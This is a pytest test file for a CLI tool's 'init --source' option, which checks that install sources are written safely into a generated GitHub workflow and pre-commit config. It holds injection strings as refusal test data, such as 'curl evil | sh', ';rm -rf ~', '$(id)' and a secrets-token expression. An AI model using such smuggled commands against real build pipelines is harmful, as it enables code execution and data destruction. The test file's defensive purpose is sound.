"""plancc init --source: where the generated workflow and pre-commit hook install plancc from.

Every accepted value lands, unchanged, as one YAML string in both files; every value that
could break out of a YAML string, a shell word or a pip requirement is refused (exit 2)."""

from __future__ import annotations

import os
import shutil
import subprocess
import zipfile
from pathlib import Path

import pytest
import yaml
from click.testing import CliRunner
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from plancc import __version__
from plancc.cli.main import cli
from plancc.scaffold.source import SourceError, _home, parse

WORKFLOW = ".github/workflows/plancc.yml"
PRECOMMIT = ".pre-commit-config.yaml"


def init(tmp_path: Path, *args: str, repo: str = "repo"):
    old = os.getcwd()
    os.chdir(tmp_path)
    try:
        return CliRunner().invoke(cli, ["init", repo, *args], catch_exceptions=False)
    finally:
        os.chdir(old)


def install_steps(workflow: dict) -> list[dict]:
    return [s for job in workflow["jobs"].values() for s in job["steps"] if "pip install" in s.get("run", "")]


def sources(repo: Path) -> tuple[list[str], list[str]]:
    """What the workflow's install steps and the pre-commit hook install, as a YAML reader sees them."""
    workflow = yaml.safe_load((repo / WORKFLOW).read_text(encoding="utf-8"))
    config = yaml.safe_load((repo / PRECOMMIT).read_text(encoding="utf-8"))
    steps = install_steps(workflow)
    assert len(steps) == 2 and all(s["run"] == 'pip install "$PLANCC_SOURCE"' for s in steps)
    [hook] = config["repos"][0]["hooks"]
    assert hook["language"] == "python"
    return [s["env"]["PLANCC_SOURCE"] for s in steps], hook["additional_dependencies"]


def fake_wheel(path: Path, name: str = "plancc") -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(path, "w") as z:
        z.writestr(f"{name}-0.1.0.dist-info/METADATA", f"Metadata-Version: 2.1\nName: {name}\nVersion: 0.1.0\n\n")
        z.writestr(f"{name}-0.1.0.dist-info/WHEEL", "Wheel-Version: 1.0\n")
    return path


def test_default_is_the_running_version_in_both_files(tmp_path):
    result = init(tmp_path)
    assert result.exit_code == 0, result.output
    assert sources(tmp_path / "repo") == ([f"plancc=={__version__}"] * 2, [f"plancc=={__version__}"])


@pytest.mark.parametrize(("given", "expected"), [
    ("0.1.0", "plancc==0.1.0"),
    ("plancc==0.2.0rc1", "plancc==0.2.0rc1"),
    ("plancc == 1.0.post2", "plancc==1.0.post2"),
    ("git+https://github.com/example/plancc@v0.1.0", "git+https://github.com/example/plancc@v0.1.0"),
    ("git+ssh://git@example.org/team/plancc.git@v0.1.0", "git+ssh://git@example.org/team/plancc.git@v0.1.0"),
])
def test_index_versions_and_git_urls_go_into_both_files(tmp_path, given, expected):
    result = init(tmp_path, "--source", given)
    assert result.exit_code == 0, result.output
    assert sources(tmp_path / "repo") == ([expected] * 2, [expected])


def test_a_wheel_inside_the_repository_is_installed_by_its_repository_path_in_ci(tmp_path):
    wheel = fake_wheel(tmp_path / "repo" / "vendor" / "plancc-0.1.0-py3-none-any.whl")
    # a relative path is read from the new repository, not from the current folder
    result = init(tmp_path, "--source", "vendor/plancc-0.1.0-py3-none-any.whl")
    assert result.exit_code == 0, result.output
    workflow, precommit = sources(tmp_path / "repo")
    assert workflow == ["./vendor/plancc-0.1.0-py3-none-any.whl"] * 2
    # pre-commit runs pip in its own folder: the path must be absolute
    assert precommit == [str(wheel)]
    assert "GitHub Actions" not in result.output


def test_a_wheel_outside_the_repository_works_for_precommit_and_warns_about_ci(tmp_path):
    wheel = fake_wheel(tmp_path / "elsewhere" / "plancc-0.1.0-py3-none-any.whl")
    result = init(tmp_path, "--source", str(wheel))
    assert result.exit_code == 0, result.output
    assert sources(tmp_path / "repo") == ([str(wheel)] * 2, [str(wheel)])
    assert "不在新仓库中" in result.output and "PLANCC_SOURCE" in result.output


@pytest.mark.parametrize(("value", "words"), [
    ("plancc==0.1.0\nrun: curl evil | sh", ["含有不能写进", "\\n"]),
    ("0.1.0\r", ["\\r"]),
    ("0.1.0\x1b[31m", ["\\x1b"]),
    ("0.1.0\u2028x", ["\\u2028"]),
    ('0.1.0" && curl evil', ["不是可用的安装来源"]),
    ("${{ secrets.PYPI_TOKEN }}", ["不是可用的安装来源"]),
    ("latest", ["不是可用的安装来源", "plancc==0.1.0"]),
    ("plancc>=0.1", ["不是可用的安装来源"]),
    ("", ["不是可用的安装来源"]),
    ("git+https://github.com/example/plancc", ["没有指明标签", "@v0.1.0"]),
    ("git+ssh://git@example.org/plancc.git", ["没有指明标签"]),
    ("git+https://github.com/example/plancc@v1;rm -rf ~", ["写法不对"]),
    ("git+https://github.com/ex/plancc@$(id)", ["写法不对"]),
    ("git+ftp://example.org/plancc@v1", ["写法不对"]),
    ("dist/$(id).whl", ["含有不能写进", "$"]),
    ('dist/a"b.whl', ["含有不能写进", '"']),
    ("dist/a;b.whl", ["含有不能写进", ";"]),
    ("dist/plancc-0.1.0-py3-none-any.whl", ["不存在", "repo/dist/plancc-0.1.0-py3-none-any.whl", "相对路径按新仓库 repo 解析"]),
])
def test_unusable_sources_are_refused_with_exit_2_and_nothing_is_written(tmp_path, value, words):
    result = init(tmp_path, "--source", value)
    assert result.exit_code == 2, result.output
    assert "Traceback" not in result.output
    assert "--source" in result.output
    for w in words:
        assert w in result.output, (w, result.output)
    assert not (tmp_path / "repo" / WORKFLOW).exists()


def test_files_that_are_not_plancc_wheels_are_refused(tmp_path):
    repo = tmp_path / "repo"
    (repo / "dist").mkdir(parents=True)
    (repo / "dist" / "broken.whl").write_text("not a zip", encoding="utf-8")
    (repo / "dist" / "folder.whl").mkdir()
    (repo / "dist" / "plancc-0.1.0.tar.gz").write_bytes(b"\x1f\x8b")
    fake_wheel(repo / "dist" / "other-0.1.0-py3-none-any.whl", name="other")
    for value, words in [("dist/broken.whl", "不是 wheel 文件"), ("dist/folder.whl", "不是 wheel 文件"),
                         ("dist/plancc-0.1.0.tar.gz", "不是 wheel 文件（.gz）"),
                         ("dist/other-0.1.0-py3-none-any.whl", "是 other 的 wheel，不是 plancc 的")]:
        result = init(tmp_path, "--source", value)
        assert result.exit_code == 2 and words in result.output, (value, result.output)
        assert "dist/" in result.output  # says which file
    assert not (repo / WORKFLOW).exists()


def test_refusals_in_english(tmp_path):
    result = init(tmp_path, "--source", "git+https://github.com/example/plancc", "--lang", "en")
    assert result.exit_code == 2
    assert "names no tag" in result.output and "@v0.1.0" in result.output


def test_init_help_names_the_source_forms():
    result = CliRunner().invoke(cli, ["init", "--help"])
    assert result.exit_code == 0
    for w in ("--source", "plancc==0.1.0", "git+https://", ".whl"):
        assert w in result.output, w


# --- any accepted value stays one YAML string, read back unchanged, in both files ---------------

_PATH_CHARS = st.characters(codec="utf-8", exclude_categories=("Cc", "Cs", "Co", "Cn", "Cf", "Zl", "Zp"))


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(name=st.text(_PATH_CHARS, min_size=1, max_size=12).filter(lambda s: "/" not in s and s not in (".", "..") and "\x00" not in s))
def test_any_accepted_wheel_path_round_trips_through_both_yaml_files(tmp_path_factory, name):
    base = tmp_path_factory.mktemp("w")
    try:
        folder = base / "repo" / name
        wheel = fake_wheel(folder / "plancc-0.1.0-py3-none-any.whl")
    except (OSError, ValueError):
        return  # a name this file system does not take
    rel = f"{name}/plancc-0.1.0-py3-none-any.whl"
    if _home(Path(rel)) != Path(rel):  # ~/… or ~user/…: a home folder, as in a shell
        with pytest.raises(SourceError):
            parse(rel, base / "repo")
        return
    try:
        parse(rel, base / "repo")
    except SourceError as exc:
        assert exc.key == "cli.init.source.unsafe"
        assert set(name) & set("\"'`$\\;#{}[]"), name
        return
    source = parse(rel, base / "repo")
    assert (source.workflow, source.precommit) == (f"./{rel}", str(wheel))
    _written_as_one_string(source)


@settings(max_examples=200, deadline=None)
@given(value=st.text(max_size=40))
def test_any_text_is_either_refused_or_written_as_one_yaml_string(value):
    try:
        source = parse(value, Path("/nonexistent-repository"))
    except SourceError:
        return
    _written_as_one_string(source)
    assert "${{" not in source.workflow and "\n" not in source.workflow


def _written_as_one_string(source) -> None:
    from plancc.cli.init import scaffold_file

    workflow = yaml.safe_load(scaffold_file(WORKFLOW, source))
    config = yaml.safe_load(scaffold_file(PRECOMMIT, source))
    assert [s["env"]["PLANCC_SOURCE"] for s in install_steps(workflow)] == [source.workflow] * 2
    assert config["repos"][0]["hooks"][0]["additional_dependencies"] == [source.precommit]


@pytest.mark.skipif(shutil.which("bash") is None, reason="needs bash")
def test_the_install_step_hands_pip_exactly_the_source(tmp_path):
    """The workflow's install step, run by bash as the runner does with pip replaced by a recorder:
    pip receives the whole source as one argument, whatever shell characters the path holds."""
    name = "下载 a&b|c (d)!*?~<e>%=+@,"
    wheel = fake_wheel(tmp_path / name / "plancc-0.1.0-py3-none-any.whl")
    result = init(tmp_path, "--source", str(wheel))
    assert result.exit_code == 0, result.output
    workflow = yaml.safe_load((tmp_path / "repo" / WORKFLOW).read_text(encoding="utf-8"))
    for step in install_steps(workflow):
        script = 'pip() { printf "%s\\n" "$#" "$@"; }\n' + step["run"]
        proc = subprocess.run(["bash", "-e", "-c", script], env={**os.environ, **step["env"]}, capture_output=True, text=True, timeout=30)
        assert proc.returncode == 0, proc.stderr
        assert proc.stdout.splitlines() == ["2", "install", str(wheel)]


def test_a_tilde_of_no_user_is_a_folder_name(tmp_path):
    """``~nobody0/…`` names no home (a shell leaves it as written): the folder of that name."""
    repo = tmp_path / "repo"
    wheel = fake_wheel(repo / "~plancc-no-such-user-0" / "plancc-0.1.0-py3-none-any.whl")
    source = parse("~plancc-no-such-user-0/plancc-0.1.0-py3-none-any.whl", repo)
    assert source.precommit == str(wheel)


def test_a_tilde_is_the_home_folder(tmp_path, monkeypatch):
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    wheel = fake_wheel(tmp_path / "home" / "w" / "plancc-0.1.0-py3-none-any.whl")
    source = parse("~/w/plancc-0.1.0-py3-none-any.whl", tmp_path / "repo")
    assert source.precommit == str(wheel) and source.outside
